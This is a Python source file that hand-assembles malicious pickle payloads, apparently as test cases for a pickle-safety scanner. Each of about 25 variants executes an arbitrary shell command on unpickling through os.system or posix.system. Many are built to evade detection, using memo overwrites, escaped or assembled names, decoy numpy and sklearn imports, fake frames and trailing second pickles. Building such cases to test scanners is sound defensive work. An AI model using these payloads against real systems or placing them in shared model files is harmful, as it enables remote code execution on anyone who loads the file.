"""Pickles put together by hand, opcode by opcode, each of which runs a command when it is unpickled."""

import struct
from collections.abc import Callable

REDUCE, STOP, POP, DUP, MARK, NEWOBJ, BUILD, STACK_GLOBAL, MEMOIZE = (
    b"R", b".", b"0", b"2", b"(", b"\x81", b"b", b"\x93", b"\x94"
)  # fmt: skip


def text(value: str) -> bytes:
    return b"X" + struct.pack("<I", len(value.encode())) + value.encode()


def short(value: str) -> bytes:
    return b"\x8c" + bytes([len(value)]) + value.encode()


def data(value: bytes) -> bytes:
    return b"C" + bytes([len(value)]) + value


def imported(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def called(function: bytes, *args: bytes) -> bytes:
    return function + MARK + b"".join(args) + b"t" + REDUCE


ROUTES: dict[str, Callable[[str], bytes]] = {
    "global": lambda cmd: b"\x80\x02" + called(imported("os", "system"), text(cmd)) + STOP,
    "global of protocol 0": lambda cmd: called(imported("posix", "system"), text(cmd)) + STOP,
    "name of Python 2": lambda cmd: b'c__builtin__\neval\n(S\'__import__("os").system("' + cmd.encode() + b"\")'\ntR.",
    "eval": lambda cmd: (
        b"\x80\x04" + called(imported("builtins", "eval"), text(f"__import__('os').system('{cmd}')")) + STOP
    ),
    "exec": lambda cmd: (
        b"\x80\x04" + called(imported("builtins", "exec"), text(f"import os; os.system('{cmd}')")) + STOP
    ),
    "getattr": lambda cmd: (
        b"\x80\x04"
        + called(
            called(
                imported("builtins", "getattr"), called(imported("builtins", "__import__"), text("os")), text("system")
            ),
            text(cmd),
        )
        + STOP
    ),
    "a name with dots": lambda cmd: (
        b"\x80\x04" + short("sklearn.datasets._base") + short("os.system") + STACK_GLOBAL + MARK + text(cmd) + b"tR."
    ),
    "partial": lambda cmd: (
        b"\x80\x04" + called(called(imported("functools", "partial"), imported("os", "system"), text(cmd))) + STOP
    ),
    "instance": lambda cmd: MARK + text(cmd) + b"iposix\nsystem\n" + STOP,
    "object": lambda cmd: MARK + imported("posix", "system") + text(cmd) + b"o" + STOP,
    "new object": lambda cmd: (
        # `map` is lazy: the tuple made of it is what runs the command.
        b"\x80\x02"
        + imported("builtins", "tuple")
        + imported("builtins", "map")
        + imported("os", "system")
        + b"]"
        + text(cmd)
        + b"a"
        + b"\x86"
        + NEWOBJ
        + b"\x85"
        + NEWOBJ
        + STOP
    ),
    "memo": lambda cmd: (
        b"\x80\x04"
        + short("posix")
        + MEMOIZE
        + short("system")
        + MEMOIZE
        + b"00"
        + short("numpy")
        + short("ndarray")
        + b"00"
        + b"h\0h\1"
        + STACK_GLOBAL
        + b"("
        + text(cmd)
        + b"tR."
    ),
    "memo that was written over": lambda cmd: (
        b"\x80\x04"
        + short("numpy")
        + b"q\0"
        + short("ndarray")
        + b"q\1"
        + b"00"
        + short("posix")
        + b"r\0\0\0\0"
        + short("system")
        + b"p1\n"
        + b"00"
        + b"j\0\0\0\0"
        + b"g1\n"
        + STACK_GLOBAL
        + b"("
        + text(cmd)
        + b"tR."
    ),
    "marks": lambda cmd: (
        b"\x80\x04"
        + short("posix")
        + MARK
        + short("numpy")
        + b"1"
        + short("system")
        + MARK
        + short("x")
        + b"00"
        + STACK_GLOBAL
        + b"("
        + text(cmd)
        + b"tR."
    ),
    "duplicates": lambda cmd: b"\x80\x04" + imported("posix", "system") + DUP + b"(" + text(cmd) + b"tR" + STOP,
    "escapes": lambda cmd: (
        b"\x80\x04" + b"S'p\\x6fsix'\n" + b"Vs\\u0079stem\n" + STACK_GLOBAL + b"(" + text(cmd) + b"tR."
    ),
    "texts of Python 2": lambda cmd: (
        b"\x80\x04" + b"U\x05posix" + b"T\x06\0\0\0system" + STACK_GLOBAL + b"(" + text(cmd) + b"tR."
    ),
    "long texts": lambda cmd: (
        b"\x80\x04\x8d" + struct.pack("<Q", 5) + b"posix" + short("system") + STACK_GLOBAL + b"(" + text(cmd) + b"tR."
    ),
    "a name that is put together": lambda cmd: (
        b"\x80\x04"
        + called(imported("builtins", "str"), data(b"posix"), text("ascii"))
        + short("system")
        + STACK_GLOBAL
        + b"("
        + text(cmd)
        + b"tR."
    ),
    "arguments that are put together": lambda cmd: (
        b"\x80\x04"
        + imported("posix", "system")
        + called(imported("builtins", "tuple"), b"]" + text(cmd) + b"a")
        + REDUCE
        + STOP
    ),
    "a frame that is no frame": lambda cmd: (
        b"\x80\x04\x95" + struct.pack("<Q", 3) + b"N0N" + called(imported("posix", "system"), text(cmd)) + STOP
    ),
    "a second protocol": lambda cmd: b"\x80\x05N0\x80\x02" + called(imported("posix", "system"), text(cmd)) + STOP,
    "an end that never comes": lambda cmd: b"\x80\x04" + called(imported("posix", "system"), text(cmd)) + b"\x95",
    "a mistake afterwards": lambda cmd: called(imported("posix", "system"), text(cmd)) + b"\xff",
    "a second pickle": lambda cmd: b"\x80\x04N." + called(imported("posix", "system"), text(cmd)) + STOP,
}
"""Ways to run a command. After all but the last few, unpickling ends well."""
